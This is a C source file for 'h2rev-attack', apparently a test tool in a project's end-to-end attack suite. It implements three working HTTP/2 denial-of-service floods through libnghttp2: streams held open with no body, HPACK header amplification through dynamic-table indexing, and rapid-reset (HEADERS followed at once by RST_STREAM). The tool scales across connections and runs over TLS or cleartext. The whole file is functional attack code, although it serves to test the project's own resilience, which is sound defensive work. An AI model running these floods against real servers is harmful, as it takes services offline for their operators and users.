/* h2rev-attack: the HTTP/2 floods of issue 12 against the dialer's client side, for
 * test/e2e-attack.sh. Speaks HTTP/2 through libnghttp2 directly (TLS with ALPN h2, or
 * cleartext prior knowledge) over non-blocking sockets and one poll() loop.
 *
 *   hold         C connections, each opening N POST streams with neither body nor
 *                END_STREAM, held for the hold time (nghttp2 answers the PINGs)
 *   hpack        the same, each request carrying --header-bytes of headers that cost a
 *                few bytes on the wire: one big header value is indexed in the HPACK
 *                dynamic table once, then referenced by index in every header block
 *   rapid-reset  C connections, each sending N GETs, every HEADERS followed at once by
 *                RST_STREAM(CANCEL) in the same write
 *
 * Prints one line of key=value counts on stdout (see print_stats). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

/* The dynamic table holds 4096 bytes by default, and nghttp2's deflater indexes an entry
 * only when it fits in three quarters of the table (32 bytes of overhead per entry): the
 * largest value that is indexed, so referenced by one byte afterwards. */
#define PAD_NAME       "x-pad"
#define PAD_VALUE_LEN  3000
#define SUBMIT_AHEAD   32    /* requests handed to nghttp2 before their HEADERS went out */
#define OUT_CHUNK      65536 /* bytes gathered from nghttp2 for one write */
#define HANDSHAKE_MS   5000  /* connect + TLS handshake, per connection */
#define READY_STALL_MS 1000  /* hold/hpack: no stream opened for this long: the flood is set */
#define READY_MAX_MS   5000  /* ... or this long after the start, whatever was opened */
#define LINGER_MS      1000  /* rapid-reset: reading after the last pair, for GOAWAY */
#define MAX_STATUS     600

enum mode { M_HOLD, M_HPACK, M_RAPID };

typedef struct conn {
  int idx;
  int fd;
  SSL *ssl;
  nghttp2_session *ng;
  uint8_t *out;
  size_t outlen, outoff, outcap;
  unsigned submitted; /* requests handed to nghttp2 */
  unsigned sent;      /* their HEADERS on the wire */
  int32_t last_sent;  /* the stream of the last of them (HEADERS go out in stream order) */
  bool no_more;       /* the server's GOAWAY or an error: nghttp2 takes no new stream */
  bool dead;
  bool ssl_wants_write;
} conn_t;

static struct {
  enum mode mode;
  const char *host;
  const char *port;
  const char *id;
  const char *ca; /* NULL: cleartext */
  const char *ready_file;
  unsigned conns;
  unsigned streams;
  unsigned hold_ms;
  unsigned header_bytes;
} opt = {.host = "127.0.0.1", .conns = 1, .streams = 1000, .hold_ms = 10000, .header_bytes = 60000};

static struct {
  unsigned connected;
  unsigned long submitted, opened, open_now, rst_sent;
  unsigned long refused, reset_by_server, goaway, closed_by_server, io_errors;
  unsigned long bytes_out, bytes_in, decoded_header_bytes;
  unsigned long status[MAX_STATUS];
} st;

static volatile sig_atomic_t stopping; /* SIGTERM or SIGINT: end the flood, print the counts */
static SSL_CTX *ssl_ctx;
static nghttp2_nv *req_nv; /* the request's headers but :path, which is per stream */
static size_t req_nvlen;
static char authority[300];
static char pad_value[PAD_VALUE_LEN];

static uint64_t now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static void die(const char *fmt, const char *arg) {
  fprintf(stderr, "h2rev-attack: ");
  fprintf(stderr, fmt, arg);
  fprintf(stderr, "\n");
  exit(2);
}

static const char *mode_name(void) {
  static const char *names[] = {"hold", "hpack", "rapid-reset"};
  return names[opt.mode];
}

/* ------------------------------------------------------------ requests */

#define NV(n, v)                                                                                   \
  { (uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), NGHTTP2_NV_FLAG_NONE }

static void build_request(void) {
  unsigned pads = opt.mode == M_HPACK ? opt.header_bytes / PAD_VALUE_LEN : 0;
  if (opt.mode == M_HPACK && pads == 0)
    pads = 1;
  req_nvlen = 4 + pads; /* :method :scheme :authority :path (filled per stream) + pads */
  req_nv = calloc(req_nvlen, sizeof(*req_nv));
  if (req_nv == NULL)
    die("%s", "out of memory");
  nghttp2_nv head[] = {
      NV(":method", opt.mode == M_RAPID ? "GET" : "POST"),
      NV(":scheme", opt.ca != NULL ? "https" : "http"),
      NV(":authority", authority),
  };
  memcpy(req_nv, head, sizeof(head));
  memset(pad_value, 'a', sizeof(pad_value));
  for (unsigned i = 0; i < pads; i++) {
    nghttp2_nv *nv = &req_nv[4 + i];
    nv->name = (uint8_t *)PAD_NAME;
    nv->namelen = sizeof(PAD_NAME) - 1;
    nv->value = (uint8_t *)pad_value;
    nv->valuelen = sizeof(pad_value);
    nv->flags = NGHTTP2_NV_FLAG_NONE;
  }
}

static int submit_one(conn_t *c) {
  static const char *prefix[] = {"hold", "hpack", "rr"};
  char path[512];
  snprintf(path, sizeof(path), "/proxy/%s/%s/%d/%u", opt.id, prefix[opt.mode], c->idx,
           c->submitted);
  nghttp2_nv *p = &req_nv[3];
  p->name = (uint8_t *)":path";
  p->namelen = 5;
  p->value = (uint8_t *)path;
  p->valuelen = strlen(path);
  p->flags = NGHTTP2_NV_FLAG_NONE;
  /* hold and hpack: HEADERS without END_STREAM, a body that never comes. */
  int32_t id =
      opt.mode == M_RAPID
          ? nghttp2_submit_request(c->ng, NULL, req_nv, req_nvlen, NULL, NULL)
          : nghttp2_submit_headers(c->ng, NGHTTP2_FLAG_NONE, -1, NULL, req_nv, req_nvlen, NULL);
  if (id < 0) {
    c->no_more = true;
    return -1;
  }
  c->submitted++;
  st.submitted++;
  return 0;
}

/* Keeps a few requests queued in nghttp2 ahead of the wire, not all N: their header
 * copies would cost the attacker what the attack costs the dialer. */
static bool top_up(conn_t *c) {
  bool any = false;
  while (!c->no_more && c->submitted < opt.streams && c->submitted - c->sent < SUBMIT_AHEAD &&
         submit_one(c) == 0)
    any = true;
  return any;
}

/* ------------------------------------------------------------ nghttp2 callbacks */

static int cb_frame_send(nghttp2_session *ng, const nghttp2_frame *f, void *ud) {
  conn_t *c = ud;
  if (f->hd.type == NGHTTP2_HEADERS && f->headers.cat == NGHTTP2_HCAT_REQUEST) {
    c->sent++;
    c->last_sent = f->hd.stream_id;
    st.opened++;
    st.open_now++;
    for (size_t i = 0; i < f->headers.nvlen; i++)
      st.decoded_header_bytes += f->headers.nva[i].namelen + f->headers.nva[i].valuelen;
    /* Queued now, RST_STREAM goes out right behind its HEADERS, before the next
     * request's (nghttp2 sends control frames ahead of new streams). */
    if (opt.mode == M_RAPID &&
        nghttp2_submit_rst_stream(ng, NGHTTP2_FLAG_NONE, f->hd.stream_id, NGHTTP2_CANCEL) == 0)
      st.rst_sent++;
  }
  return 0;
}

static int cb_frame_recv(nghttp2_session *ng, const nghttp2_frame *f, void *ud) {
  (void)ng;
  conn_t *c = ud;
  if (f->hd.type == NGHTTP2_RST_STREAM) {
    if (f->rst_stream.error_code == NGHTTP2_REFUSED_STREAM)
      st.refused++;
    else
      st.reset_by_server++;
  } else if (f->hd.type == NGHTTP2_GOAWAY) {
    st.goaway++;
    c->no_more = true;
  }
  return 0;
}

static int cb_header(nghttp2_session *ng, const nghttp2_frame *f, const uint8_t *name, size_t nl,
                     const uint8_t *value, size_t vl, uint8_t flags, void *ud) {
  (void)ng, (void)flags, (void)ud;
  if (f->hd.type == NGHTTP2_HEADERS && nl == 7 && memcmp(name, ":status", 7) == 0 && vl == 3) {
    int code = (value[0] - '0') * 100 + (value[1] - '0') * 10 + (value[2] - '0');
    if (code >= 100 && code < MAX_STATUS)
      st.status[code]++;
  }
  return 0;
}

static int cb_stream_close(nghttp2_session *ng, int32_t id, uint32_t code, void *ud) {
  (void)ng, (void)code;
  conn_t *c = ud;
  /* Requests still queued when a GOAWAY came close too, but were never opened. */
  if (id <= c->last_sent)
    st.open_now--;
  return 0;
}

/* ------------------------------------------------------------ I/O */

/* >0: bytes; 0: would block; -1: closed or failed. */
static ssize_t c_read(conn_t *c, uint8_t *buf, size_t len) {
  if (c->ssl == NULL) {
    ssize_t n = recv(c->fd, buf, len, 0);
    if (n > 0)
      return n;
    return n < 0 && (errno == EAGAIN || errno == EINTR) ? 0 : -1;
  }
  int n = SSL_read(c->ssl, buf, (int)len);
  if (n > 0)
    return n;
  int e = SSL_get_error(c->ssl, n);
  if (e == SSL_ERROR_WANT_READ)
    return 0;
  if (e == SSL_ERROR_WANT_WRITE) {
    c->ssl_wants_write = true;
    return 0;
  }
  return -1;
}

static ssize_t c_write(conn_t *c, const uint8_t *p, size_t len) {
  if (c->ssl == NULL) {
    ssize_t n = send(c->fd, p, len, MSG_NOSIGNAL);
    if (n >= 0)
      return n;
    return errno == EAGAIN || errno == EINTR ? 0 : -1;
  }
  int n = SSL_write(c->ssl, p, (int)len);
  if (n > 0)
    return n;
  int e = SSL_get_error(c->ssl, n);
  return e == SSL_ERROR_WANT_WRITE || e == SSL_ERROR_WANT_READ ? 0 : -1;
}

static void c_kill(conn_t *c, bool by_server) {
  if (c->dead)
    return;
  c->dead = true;
  if (by_server)
    st.closed_by_server++;
  else
    st.io_errors++;
}

static void out_append(conn_t *c, const uint8_t *p, size_t n) {
  if (c->outlen + n > c->outcap) {
    size_t cap = c->outcap ? c->outcap : OUT_CHUNK;
    while (cap < c->outlen + n)
      cap *= 2;
    uint8_t *q = realloc(c->out, cap);
    if (q == NULL)
      die("%s", "out of memory");
    c->out = q;
    c->outcap = cap;
  }
  memcpy(c->out + c->outlen, p, n);
  c->outlen += n;
}

/* Writes what nghttp2 has to send, submitting more requests as HEADERS go out, until the
 * socket would block or there is nothing left. */
static void c_flush(conn_t *c) {
  while (!c->dead) {
    if (c->outoff == c->outlen) {
      c->outoff = c->outlen = 0;
      while (c->outlen < OUT_CHUNK) {
        const uint8_t *d;
        ssize_t n = nghttp2_session_mem_send(c->ng, &d);
        if (n < 0) {
          c_kill(c, false);
          return;
        }
        if (n == 0 && !top_up(c))
          break;
        if (n > 0)
          out_append(c, d, (size_t)n);
      }
      if (c->outlen == 0)
        return;
    }
    ssize_t w = c_write(c, c->out + c->outoff, c->outlen - c->outoff);
    if (w < 0) {
      c_kill(c, true);
      return;
    }
    if (w == 0)
      return;
    c->outoff += (size_t)w;
    st.bytes_out += (unsigned long)w;
  }
}

static void c_readable(conn_t *c) {
  uint8_t buf[16384];
  c->ssl_wants_write = false;
  for (;;) {
    ssize_t n = c_read(c, buf, sizeof(buf));
    if (n == 0)
      return;
    if (n < 0) {
      c_kill(c, true);
      return;
    }
    st.bytes_in += (unsigned long)n;
    if (nghttp2_session_mem_recv(c->ng, buf, (size_t)n) < 0) {
      c_kill(c, false);
      return;
    }
  }
}

/* ------------------------------------------------------------ connections */

static int tcp_connect(void) {
  struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM}, *res;
  if (getaddrinfo(opt.host, opt.port, &hints, &res) != 0)
    return -1;
  int fd = socket(res->ai_family, SOCK_STREAM, 0);
  if (fd >= 0) {
    /* A server at its connection limit may leave the handshake unanswered. */
    struct timeval tv = {HANDSHAKE_MS / 1000, (HANDSHAKE_MS % 1000) * 1000};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
    int one = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    if (connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
      close(fd);
      fd = -1;
    }
  }
  freeaddrinfo(res);
  return fd;
}

static int tls_start(conn_t *c) {
  c->ssl = SSL_new(ssl_ctx);
  if (c->ssl == NULL)
    return -1;
  SSL_set_fd(c->ssl, c->fd);
  SSL_set_tlsext_host_name(c->ssl, opt.host);
  SSL_set1_host(c->ssl, opt.host); /* an IP address is matched against the IP SANs */
  if (SSL_connect(c->ssl) != 1) {
    ERR_print_errors_fp(stderr);
    return -1;
  }
  const unsigned char *alpn;
  unsigned alen;
  SSL_get0_alpn_selected(c->ssl, &alpn, &alen);
  if (alen != 2 || memcmp(alpn, "h2", 2) != 0) {
    fprintf(stderr, "h2rev-attack: the server did not select h2\n");
    return -1;
  }
  return 0;
}

static int c_open(conn_t *c, int idx) {
  memset(c, 0, sizeof(*c));
  c->idx = idx;
  c->fd = tcp_connect();
  if (c->fd < 0 || (opt.ca != NULL && tls_start(c) != 0)) {
    c->dead = true;
    st.io_errors++;
    return -1;
  }
  fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);

  nghttp2_session_callbacks *cb;
  nghttp2_session_callbacks_new(&cb);
  nghttp2_session_callbacks_set_on_frame_send_callback(cb, cb_frame_send);
  nghttp2_session_callbacks_set_on_frame_recv_callback(cb, cb_frame_recv);
  nghttp2_session_callbacks_set_on_header_callback(cb, cb_header);
  nghttp2_session_callbacks_set_on_stream_close_callback(cb, cb_stream_close);
  int r = nghttp2_session_client_new(&c->ng, cb, c);
  nghttp2_session_callbacks_del(cb);
  if (r != 0)
    die("%s", "nghttp2_session_client_new failed");
  nghttp2_settings_entry iv[] = {{NGHTTP2_SETTINGS_ENABLE_PUSH, 0}};
  nghttp2_submit_settings(c->ng, NGHTTP2_FLAG_NONE, iv, 1);
  st.connected++;
  return 0;
}

static void c_close(conn_t *c) {
  if (c->ng != NULL) {
    if (!c->dead) {
      /* A polite end, so the server logs a client that left, not a broken one. */
      nghttp2_session_terminate_session(c->ng, NGHTTP2_NO_ERROR);
      fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) & ~O_NONBLOCK);
      c_flush(c);
    }
    nghttp2_session_del(c->ng);
  }
  if (c->ssl != NULL) {
    if (!c->dead)
      SSL_shutdown(c->ssl);
    SSL_free(c->ssl);
  }
  if (c->fd >= 0)
    close(c->fd);
  free(c->out);
}

/* ------------------------------------------------------------ main loop */

static bool c_finished(const conn_t *c) {
  return c->dead || ((c->no_more || c->sent == opt.streams) && c->outoff == c->outlen &&
                     !nghttp2_session_want_write(c->ng));
}

static void write_ready(void) {
  if (opt.ready_file == NULL)
    return;
  FILE *f = fopen(opt.ready_file, "w");
  if (f == NULL)
    die("cannot write %s", opt.ready_file);
  fprintf(f, "%lu\n", st.opened);
  fclose(f);
}

static void run(conn_t *cs) {
  struct pollfd *pf = calloc(opt.conns, sizeof(*pf));
  if (pf == NULL)
    die("%s", "out of memory");
  uint64_t start = now_ms(), deadline = start + opt.hold_ms, last_open = start, done_at = 0;
  unsigned long last_opened = 0;
  bool ready = false;
  if (opt.mode == M_RAPID) {
    write_ready(); /* the flood is the sending itself: bystanders go alongside */
    ready = true;
  }
  for (unsigned i = 0; i < opt.conns; i++)
    if (!cs[i].dead)
      c_flush(&cs[i]);
  for (;;) {
    uint64_t now = now_ms();
    if (now >= deadline || stopping)
      break;
    bool all_done = true;
    for (unsigned i = 0; i < opt.conns; i++)
      all_done &= c_finished(&cs[i]);
    if (st.opened != last_opened) {
      last_opened = st.opened;
      last_open = now;
    }
    if (!ready && (all_done || now - last_open >= READY_STALL_MS || now - start >= READY_MAX_MS)) {
      write_ready();
      ready = true;
    }
    if (opt.mode == M_RAPID && all_done) {
      if (done_at == 0)
        done_at = now;
      else if (now - done_at >= LINGER_MS)
        break;
    }
    unsigned live = 0;
    for (unsigned i = 0; i < opt.conns; i++) {
      conn_t *c = &cs[i];
      pf[i].fd = c->dead ? -1 : c->fd;
      pf[i].events = POLLIN;
      if (c->outoff < c->outlen || c->ssl_wants_write)
        pf[i].events |= POLLOUT;
      pf[i].revents = 0;
      live += !c->dead;
    }
    if (live == 0 && opt.mode != M_RAPID)
      break;
    int wait = (int)(deadline - now) < 100 ? (int)(deadline - now) : 100;
    if (poll(pf, opt.conns, wait) < 0 && errno != EINTR)
      die("poll: %s", strerror(errno));
    for (unsigned i = 0; i < opt.conns; i++) {
      conn_t *c = &cs[i];
      if (c->dead)
        continue;
      if (pf[i].revents & (POLLIN | POLLHUP | POLLERR))
        c_readable(c);
      if (!c->dead)
        c_flush(c);
      if (!c->dead && !nghttp2_session_want_read(c->ng) && !nghttp2_session_want_write(c->ng))
        c_kill(c, true); /* the server's GOAWAY and the last stream is done */
    }
  }
  free(pf);
}

static void print_stats(void) {
  printf("mode=%s conns=%u connected=%u submitted=%lu opened=%lu open_at_end=%lu rst_sent=%lu "
         "refused=%lu reset_by_server=%lu goaway=%lu closed_by_server=%lu io_errors=%lu "
         "bytes_out=%lu bytes_in=%lu decoded_header_bytes=%lu",
         mode_name(), opt.conns, st.connected, st.submitted, st.opened, st.open_now, st.rst_sent,
         st.refused, st.reset_by_server, st.goaway, st.closed_by_server, st.io_errors, st.bytes_out,
         st.bytes_in, st.decoded_header_bytes);
  for (int i = 0; i < MAX_STATUS; i++)
    if (st.status[i] != 0)
      printf(" status_%d=%lu", i, st.status[i]);
  printf("\n");
}

/* ------------------------------------------------------------ options */

static void usage(void) {
  fprintf(stderr, "usage: h2rev-attack hold|hpack|rapid-reset --connect HOST:PORT --id ID\n"
                  "                    (--ca FILE | --cleartext) [options]\n"
                  "  --conns C          connections (default 1)\n"
                  "  --streams N        requests per connection (default 1000)\n"
                  "  --hold MS          how long the flood lasts at most (default 10000);\n"
                  "                     SIGTERM ends it sooner\n"
                  "  --header-bytes B   hpack: decoded header bytes per request (default 60000)\n"
                  "  --ready-file F     written once the flood is in place\n");
  exit(2);
}

static unsigned num(const char *s) {
  char *end;
  unsigned long v = strtoul(s, &end, 10);
  if (*s == '\0' || *end != '\0' || v > 1000000000ul)
    die("bad number \"%s\"", s);
  return (unsigned)v;
}

static void parse(int argc, char **argv) {
  if (argc < 2)
    usage();
  if (strcmp(argv[1], "hold") == 0)
    opt.mode = M_HOLD;
  else if (strcmp(argv[1], "hpack") == 0)
    opt.mode = M_HPACK;
  else if (strcmp(argv[1], "rapid-reset") == 0)
    opt.mode = M_RAPID;
  else
    usage();
  bool cleartext = false;
  const char *connect = NULL;
  for (int i = 2; i < argc; i++) {
    const char *a = argv[i];
    if (strcmp(a, "--cleartext") == 0) {
      cleartext = true;
      continue;
    }
    if (i + 1 >= argc)
      usage();
    const char *v = argv[++i];
    if (strcmp(a, "--connect") == 0)
      connect = v;
    else if (strcmp(a, "--id") == 0)
      opt.id = v;
    else if (strcmp(a, "--ca") == 0)
      opt.ca = v;
    else if (strcmp(a, "--ready-file") == 0)
      opt.ready_file = v;
    else if (strcmp(a, "--conns") == 0)
      opt.conns = num(v);
    else if (strcmp(a, "--streams") == 0)
      opt.streams = num(v);
    else if (strcmp(a, "--hold") == 0)
      opt.hold_ms = num(v);
    else if (strcmp(a, "--header-bytes") == 0)
      opt.header_bytes = num(v);
    else
      usage();
  }
  if (connect == NULL || opt.id == NULL || cleartext == (opt.ca != NULL) || opt.conns == 0)
    usage();
  static char host[256];
  const char *colon = strrchr(connect, ':');
  if (colon == NULL || (size_t)(colon - connect) >= sizeof(host))
    die("bad --connect \"%s\"", connect);
  memcpy(host, connect, (size_t)(colon - connect));
  host[colon - connect] = '\0';
  if (host[0] == '[') { /* [::1]:443 */
    memmove(host, host + 1, strlen(host));
    host[strcspn(host, "]")] = '\0';
  }
  opt.host = host;
  opt.port = colon + 1;
  snprintf(authority, sizeof(authority), "%s", connect);
}

static void on_stop(int sig) {
  (void)sig;
  stopping = 1;
}

int main(int argc, char **argv) {
  parse(argc, argv);
  signal(SIGPIPE, SIG_IGN);
  struct sigaction sa = {.sa_handler = on_stop}; /* no SA_RESTART: poll() returns EINTR */
  sigaction(SIGTERM, &sa, NULL);
  sigaction(SIGINT, &sa, NULL);
  if (opt.ca != NULL) {
    ssl_ctx = SSL_CTX_new(TLS_client_method());
    if (ssl_ctx == NULL || SSL_CTX_load_verify_locations(ssl_ctx, opt.ca, NULL) != 1)
      die("cannot load CA %s", opt.ca);
    SSL_CTX_set_verify(ssl_ctx, SSL_VERIFY_PEER, NULL);
    SSL_CTX_set_alpn_protos(ssl_ctx, (const unsigned char *)"\x02h2", 3);
    SSL_CTX_set_mode(ssl_ctx, SSL_MODE_ENABLE_PARTIAL_WRITE | SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER);
  }
  build_request();
  conn_t *cs = calloc(opt.conns, sizeof(*cs));
  if (cs == NULL)
    die("%s", "out of memory");
  for (unsigned i = 0; i < opt.conns; i++)
    c_open(&cs[i], (int)i);
  if (st.connected == 0) {
    print_stats();
    return 1;
  }
  run(cs);
  print_stats();
  for (unsigned i = 0; i < opt.conns; i++)
    c_close(&cs[i]);
  free(cs);
  free(req_nv);
  SSL_CTX_free(ssl_ctx);
  return 0;
}
